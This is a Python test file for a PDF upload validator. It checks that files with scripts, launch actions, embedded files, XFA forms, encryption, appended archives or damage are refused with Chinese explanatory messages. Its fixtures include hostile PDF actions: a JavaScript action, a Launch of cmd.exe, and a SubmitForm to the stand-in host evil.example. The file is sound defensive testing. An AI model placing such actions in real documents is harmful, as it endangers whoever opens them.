"""PDF files that run something, hold other files, or are locked."""

from __future__ import annotations

import pytest
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from gongkai.files.queries import reasons_not_to_accept
from gongkai.files.tests import samples


def only_reason(data: bytes) -> str:
    reasons = reasons_not_to_accept("公告.pdf", data)
    assert len(reasons) == 1, reasons
    return reasons[0]


@pytest.mark.parametrize(
    ("action", "said"),
    [
        ({"/S": "/JavaScript", "/JS": "app.alert(1)"}, "脚本（JavaScript）"),
        ({"/S": "/Launch", "/F": "cmd.exe"}, "启动程序的动作"),
        ({"/S": "/SubmitForm", "/F": "http://evil.example/"}, "向外发送数据"),
        ({"/S": "/GoToE", "/F": "inner.pdf"}, "嵌入了其他文件"),
    ],
)
def test_a_pdf_that_acts_by_itself_is_refused(action: dict[str, str], said: str) -> None:
    assert said in only_reason(samples.pdf_opening_with(action))


def test_a_harmless_action_is_no_obstacle() -> None:
    link = {"/S": "/URI", "/URI": "https://www.gov.cn/"}
    assert reasons_not_to_accept("公告.pdf", samples.pdf_opening_with(link)) == []


def test_a_script_in_the_table_of_names_is_found() -> None:
    writer = samples.pdf_writer()
    script = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x()")}
    )
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), script])})
    writer.root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(names)}
    )
    assert "脚本（JavaScript）" in only_reason(samples.written(writer))


def test_a_pdf_with_a_file_inside_is_refused() -> None:
    writer = samples.pdf_writer()
    writer.add_attachment("底稿.xlsx", b"x")
    assert "嵌入了其他文件" in only_reason(samples.written(writer))


def test_a_locked_pdf_says_how_to_unlock_it() -> None:
    assert "取消加密后重新导出" in only_reason(samples.encrypted_pdf())


def test_a_dynamic_form_is_refused() -> None:
    writer = samples.pdf_writer()
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/XFA"): ArrayObject()}
    )
    assert "XFA" in only_reason(samples.written(writer))


def test_a_pdf_that_is_an_archive_as_well_is_refused() -> None:
    assert "藏有压缩包" in only_reason(samples.pdf() + samples.in_zip({"a.exe": "x"}))


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\nnothing more",
        samples.pdf()[:200],
        b"%PDF-1.4\n" + bytes(range(256)) * 8 + b"\n%%EOF",
    ],
)
def test_a_damaged_pdf_says_how_to_mend_it(data: bytes) -> None:
    assert "重新导出" in only_reason(data)
